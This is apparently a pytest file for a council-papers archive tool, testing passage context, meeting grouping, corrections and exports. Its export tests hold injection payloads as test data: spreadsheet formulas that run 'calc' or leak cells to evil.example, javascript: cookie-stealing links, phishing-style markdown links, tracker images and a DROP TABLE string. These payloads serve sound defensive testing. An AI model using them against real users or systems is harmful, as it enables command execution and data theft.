"""explore (around a hit), corrections (manifest.csv beside the papers) and uploads, on real
archives: the seeds ingested with the hash embedder for mechanics, the real model where the
meaning of "similar" matters."""
import csv
import io
import re
import shutil
from pathlib import Path

import pytest

from cs_archive import explore
from cs_archive.corrections import CorrectionError, correct, read_row, write_correction
from cs_archive.index.store import Archive
from cs_archive.models import Hit

ROOT = Path(__file__).resolve().parents[1]
SEEDS = ROOT / "seeds"


@pytest.fixture
def hashed(tmp_path, hash_env):
    """(papers folder, open archive) for a copy of seeds/ ingested with the hash embedder."""
    from cs_archive.embed import get_embedder
    from cs_archive.ingest import ingest

    papers = tmp_path / "papers"
    shutil.copytree(SEEDS, papers)
    ingest([papers], tmp_path / "index", get_embedder())
    a = Archive(tmp_path / "index")
    yield papers, a
    a.close()


def _chunk(a: Archive, section: str, title_part: str) -> str:
    return a.db.execute("SELECT c.chunk_id FROM chunks c JOIN papers p USING(doc_id) WHERE c.section = ? "
                        "AND p.title LIKE ? ORDER BY p.date DESC LIMIT 1", (section, f"%{title_part}%")).fetchone()[0]


def _hit(**kw) -> Hit:
    base = dict(rank=1, score=1.0, confident=True, chunk_id="d:0001", doc_id="d", source="x.txt", url=None,
                council=None, committee="Cabinet", date="2024-01-04", doc_type="report", title="T", section="1.1",
                subsection=None, part=None, heading="", page=None, page_end=None, text="text")
    base.update(kw)
    return Hit(**base)


# -- reading around a hit ---------------------------------------------------------------
def test_context_is_the_passage_and_its_neighbours_in_reading_order(hashed):
    _, a = hashed
    cid = _chunk(a, "2.23", "Children's Services Update")
    around = explore.context(a, cid, n=1)
    assert [h.section for h in around] == ["2.22", "2.23", "2.24"]
    assert len({h.doc_id for h in around}) == 1 and around[1].chunk_id == cid
    assert explore.context(a, "no-such:0000") == []


def test_the_whole_paper_comes_in_reading_order_and_matches_its_count(hashed):
    _, a = hashed
    info = next(p for p in explore.papers(a) if p.title == "Children's Services Update" and p.date == "2024-01-04")
    passages = explore.paper_passages(a, info.doc_id)
    assert len(passages) == info.passages
    sections = [h.section for h in passages if h.section and h.section.startswith("2.")]
    assert sections.index("2.22") < sections.index("2.23") < sections.index("2.24")
    assert explore.paper_info(a, info.doc_id) == info


def test_meetings_group_each_paper_once_newest_first_within_a_committee(hashed):
    _, a = hashed
    meetings = explore.meetings(a)
    ids = [p.doc_id for m in meetings for p in m.papers]
    assert sorted(ids) == sorted(p.doc_id for p in explore.catalogue(a))
    for m in meetings:
        if m.placed:
            assert all(p.council == m.council and p.date == m.date for p in m.papers)
        else:
            assert m is meetings[-1] and all(not (p.committee and p.date) for p in m.papers)
    cabinet = [m.date for m in meetings if m.committee == "Cabinet" and m.date]
    assert cabinet == sorted(cabinet, reverse=True) and "2024-01-04" in cabinet
    assert "Buckinghamshire Council · Cabinet · 4 January 2024" in [m.label for m in meetings]
    assert explore.meetings(a, committee="Cabinet") == [m for m in meetings if m.committee == "Cabinet"]


def test_one_committee_under_two_names_is_one_meeting(tmp_path):
    from cs_archive.embed import HashEmbedder
    from cs_archive.index import open_archive
    from cs_archive.ingest import ingest

    (tmp_path / "papers").mkdir()
    (tmp_path / "papers" / "minutes.txt").write_text(
        "Bristol City Council\nMinutes of the Transport and Connectivity Policy Committee\n12 September 2024 at 5.00 pm\n"
        "Members Present:- Councillors A and B\n1 Apologies\nNone.\n")
    (tmp_path / "papers" / "decision.txt").write_text(
        "Decision Recording Form\nDecision determined at Transport & Connectivity Committee meeting on 12 September 2024\n"
        "(a) Subject: Parking review\n(b) Decision taken\nThe committee approved the review.\n")
    ingest([tmp_path / "papers"], tmp_path / "idx", HashEmbedder())
    (m,) = explore.meetings(open_archive(tmp_path / "idx"))
    assert m.label == "Bristol City Council · Transport and Connectivity Policy Committee · 12 September 2024"
    assert {p.doc_type for p in m.papers} == {"minutes", "decision"}
    decision = next(p for p in m.papers if p.doc_type == "decision")
    assert (decision.council, decision.provenance["council"]) == ("Bristol City Council", "meeting")


def test_distinct_values_and_topics_come_from_the_archive(hashed):
    _, a = hashed
    assert "Cabinet" in explore.distinct(a, "committee")
    assert "Buckinghamshire Council" in explore.distinct(a, "council")
    assert "children in care and placements" in explore.topics_in(a)
    with pytest.raises(ValueError):
        explore.distinct(a, "text; DROP TABLE papers")


@pytest.mark.model
def test_earlier_papers_are_similar_older_and_newest_first(seed_index, real_env):
    a = Archive(seed_index)
    cid = _chunk(a, "2.23", "Children's Services Update")
    before = explore.earlier(a, cid, k=5)
    assert before, "the 2016 and 2019 papers discuss children in care"
    dates = [h.date for h in before]
    assert all(d < "2024-01-04" for d in dates) and dates == sorted(dates, reverse=True)
    assert all(h.score >= explore.EARLIER_MIN_COSINE for h in before)
    per_paper = {}
    for h in before:
        per_paper[h.doc_id] = per_paper.get(h.doc_id, 0) + 1
    assert max(per_paper.values()) <= explore.EARLIER_PER_PAPER
    oldest = a.db.execute("SELECT c.chunk_id FROM chunks c JOIN papers p USING(doc_id) WHERE p.date = "
                          "(SELECT min(date) FROM papers) LIMIT 1").fetchone()[0]
    assert explore.earlier(a, oldest) == []


def test_earlier_papers_of_an_undated_paper_is_empty(hashed):
    _, a = hashed
    undated = a.db.execute("SELECT c.chunk_id FROM chunks c JOIN papers p USING(doc_id) WHERE p.date IS NULL "
                           "LIMIT 1").fetchone()
    if undated is None:
        pytest.skip("every seed paper has a date")
    assert explore.earlier(a, undated[0]) == []


# -- ordering, timeline, export -----------------------------------------------------------
def test_sort_by_meeting_date_keeps_undated_last():
    hits = [_hit(rank=1, date="2019-07-22"), _hit(rank=2, date=None), _hit(rank=3, date="2024-01-04"),
            _hit(rank=4, date="2016-09-20")]
    assert [h.rank for h in explore.sort_hits(hits, "newest")] == [3, 1, 4, 2]
    assert [h.rank for h in explore.sort_hits(hits, "oldest")] == [4, 1, 3, 2]
    assert [h.rank for h in explore.sort_hits(hits, "relevance")] == [1, 2, 3, 4]


def test_timeline_counts_passages_per_meeting():
    hits = [_hit(rank=1, date="2024-01-04", section="2.23"), _hit(rank=2, date="2016-09-20", committee="Panel"),
            _hit(rank=3, date="2024-01-04", section="2.24"), _hit(rank=4, date=None)]
    rows = explore.timeline_rows(hits)
    assert rows == [
        {"date": "2016-09-20", "committee": "Panel", "passages": 1, "best": hits[1].citation()},
        {"date": "2024-01-04", "committee": "Cabinet", "passages": 2, "best": hits[0].citation()},
    ]


def test_csv_export_round_trips_text_and_citation():
    tricky = 'Line one, with a comma\nand "quotes" <script>'
    hits = [_hit(text=tricky, url="https://example.org/p"), _hit(rank=2, confident=False, section=None)]
    rows = list(csv.DictReader(explore.to_csv(hits).splitlines(keepends=True)))
    assert rows[0]["text"] == tricky and rows[0]["citation"] == hits[0].citation()
    assert rows[0]["url"] == "https://example.org/p" and rows[1]["confident"] == "False"


def test_markdown_export_escapes_paper_text():
    hits = [_hit(text="**not bold** [link](javascript:x) <img src=x> # not a heading", title="A_B")]
    md = explore.to_markdown(hits, "q*")
    assert "**not bold**" not in md and "[link](" not in md
    assert re.search(r"(?<!\\)<", md) is None  # every < is escaped
    assert r"\*\*not bold\*\*" in md and r"\<img" in md and r"\# not a heading" in md
    assert md.startswith(r"# Search: q\*")


def test_safe_url_only_allows_web_links():
    from cs_archive.render import safe_url

    assert safe_url("https://buckinghamshire.moderngov.co.uk/x?a=1") == "https://buckinghamshire.moderngov.co.uk/x?a=1"
    assert safe_url("javascript:alert(1)") is None and safe_url('https://x" onmouseover="y') is None


# -- corrections --------------------------------------------------------------------------
def test_a_correction_updates_only_its_row_and_keeps_the_rest(tmp_path):
    (tmp_path / "a.txt").write_text("paper a")
    (tmp_path / "b.txt").write_text("paper b")
    (tmp_path / "manifest.csv").write_text("file,council,committee,date,title,doc_type,url,notes\n"
                                           "a.txt,Bucks,,,,,,keep me\nb.txt,Bucks,Cabinet,,,,,\n")
    write_correction(tmp_path / "a.txt", {"committee": "Corporate  Parenting Panel", "date": "4 January 2024"})
    rows = list(csv.DictReader((tmp_path / "manifest.csv").open()))
    assert rows[0] == {"file": "a.txt", "council": "Bucks", "committee": "Corporate Parenting Panel",
                       "date": "2024-01-04", "title": "", "doc_type": "", "url": "", "notes": "keep me",
                       "corrected": "committee date"}  # what a person set here: provenance "correction"
    assert rows[1]["committee"] == "Cabinet" and rows[1]["corrected"] == ""
    write_correction(tmp_path / "a.txt", {"committee": ""})  # cleared: the paper decides again
    assert read_row(tmp_path / "a.txt") == {"council": "Bucks", "date": "2024-01-04"}
    assert list(csv.DictReader((tmp_path / "manifest.csv").open()))[0]["corrected"] == "date"


def test_a_correction_creates_the_manifest_when_there_is_none(tmp_path):
    (tmp_path / "a.txt").write_text("paper a")
    write_correction(tmp_path / "a.txt", {"doc_type": "minutes"})
    assert (tmp_path / "manifest.csv").read_text() == "file,council,committee,date,title,doc_type,url,corrected\n" \
                                                      "a.txt,,,,,minutes,,doc_type\n"


@pytest.mark.parametrize("changes, words", [
    ({"date": "next Tuesday"}, "not a date"),
    ({"doc_type": "memo"}, "not a paper type"),
    ({"url": "javascript:alert(1)"}, "not a web address"),
    ({"source": "x"}, "cannot be corrected"),
])
def test_bad_corrections_are_refused_and_nothing_is_written(tmp_path, changes, words):
    (tmp_path / "a.txt").write_text("paper a")
    with pytest.raises(CorrectionError, match=words):
        write_correction(tmp_path / "a.txt", changes)
    assert not (tmp_path / "manifest.csv").exists()


def test_a_missing_paper_cannot_be_corrected(tmp_path):
    with pytest.raises(CorrectionError, match="not where it was added from"):
        write_correction(tmp_path / "gone.txt", {"committee": "Cabinet"})


def test_a_correction_reaches_the_archive_and_survives_a_rebuild(hashed, tmp_path):
    from cs_archive.embed import get_embedder
    from cs_archive.ingest import ingest

    papers, a = hashed
    paper = next(p for p in explore.papers(a) if p.title == "Children's Services Update" and p.date == "2019-07-22")
    result = correct(paper.source, {"committee": "Cabinet (special meeting)", "date": "2019-07-23"},
                     folder=tmp_path / "index", embedder=get_embedder())
    assert result.manifest == papers / "manifest.csv" and result.report.updated == [paper.source]
    fresh = Archive(tmp_path / "index")
    assert (explore.paper_info(fresh, paper.doc_id).committee, explore.paper_info(fresh, paper.doc_id).date) == \
        ("Cabinet (special meeting)", "2019-07-23")
    ingest([papers], tmp_path / "index", get_embedder(), rebuild=True)
    rebuilt = Archive(tmp_path / "index")
    info = explore.paper_info(rebuilt, paper.doc_id)
    assert (info.committee, info.date) == ("Cabinet (special meeting)", "2019-07-23")


def test_earlier_papers_leave_out_exempt_ones_as_search_does(tmp_path, hash_env):
    from test_exempt import paper

    from cs_archive.embed import HashEmbedder
    from cs_archive.index.store import Archive
    from cs_archive.ingest import ingest

    folder = tmp_path / "papers"
    folder.mkdir()
    (folder / "public.txt").write_text(paper("Is the report confidential? No", price="£900,000"), encoding="utf-8")
    (folder / "exempt.txt").write_text(paper("NOT FOR PUBLICATION", price="£1,234,567"), encoding="utf-8")
    (folder / "later.txt").write_text(paper("Is the report confidential? No", price="£950,000")
                                      .replace("4 January 2024", "5 March 2025"), encoding="utf-8")
    ingest([folder], tmp_path / "index", HashEmbedder())
    archive = Archive(tmp_path / "index", exempt=True)  # a member's reader: exempt only when asked
    later = next(r["chunk_id"] for r in archive.db.execute(
        "SELECT c.chunk_id, p.source FROM chunks c JOIN papers p USING(doc_id) WHERE c.text LIKE '%£950,000%'"))
    shown = explore.earlier(archive, later, k=10, min_cosine=-1.0)
    sources = {Path(h.source).name for h in shown}
    assert "public.txt" in sources and "exempt.txt" not in sources
    asked = explore.earlier(archive, later, k=10, min_cosine=-1.0, include_exempt=True)
    assert "exempt.txt" in {Path(h.source).name for h in asked}
    assert all(h.exempt == (Path(h.source).name == "exempt.txt") for h in asked)
    public = Archive(tmp_path / "index")  # asking cannot widen what a public reader shows
    assert "exempt.txt" not in {Path(h.source).name
                                for h in explore.earlier(public, later, k=10, min_cosine=-1.0, include_exempt=True)}


# -- exports cannot be turned against whoever opens them ----------------------------------
FORMULAS = ("=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example/?leak="&A1,"Click")', "+1+1", "-2+3",
            "@SUM(A1:A9)", "\t=1+1", "\r=1+1")


def test_csv_export_neutralises_formulas_in_every_column():
    """A spreadsheet runs a cell that starts with = + - @ (or tab, carriage return): each such
    cell is written with a leading quote, so it is shown as text (the OWASP rule)."""
    hits = [_hit(title=f, committee=f, council=f, text=f, source=f, heading=f, section=None, doc_type=f,
                 url=f, chunk_id=f) for f in FORMULAS]
    rows = list(csv.DictReader(io.StringIO(explore.to_csv(hits), newline="")))
    assert len(rows) == len(FORMULAS)
    for row, f in zip(rows, FORMULAS):
        for column in ("title", "committee", "text", "source", "doc_type", "url", "chunk_id"):
            assert row[column] == "'" + f, (column, row[column])
        assert all(not v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values()), row
    plain = list(csv.DictReader(io.StringIO(explore.to_csv([_hit(title="Budget 2024-25", text="A -5% change")]))))
    assert plain[0]["title"] == "Budget 2024-25" and plain[0]["text"] == "A -5% change"  # only a leading sign counts


def test_markdown_export_links_only_web_addresses():
    evil = _hit(url="javascript:alert(document.cookie)")
    good = _hit(rank=2, url="https://example.org/paper?id=1")
    md = explore.to_markdown([evil, good])
    assert "javascript" not in md.replace(r"javascript:alert\(document\.cookie\)", "")  # never bare
    assert "<javascript" not in md and "](javascript" not in md
    assert "<https://example.org/paper?id=1>" in md


def test_markdown_export_metadata_cannot_make_a_link_or_image():
    title = "[sign in again](https://evil.example) ![](https://tracker.example/x.png)"
    md = explore.to_markdown([_hit(title=title, committee="![x](https://tracker.example/y.png)\n# Heading")])
    assert "[sign in again](" not in md and "![](" not in md and "![x](" not in md
    assert re.search(r"(?<!\\)[\[\]!]", md.replace("**", "")) is None  # every bracket and ! escaped
    assert "\n# Heading" not in md  # a line break in metadata cannot start a heading
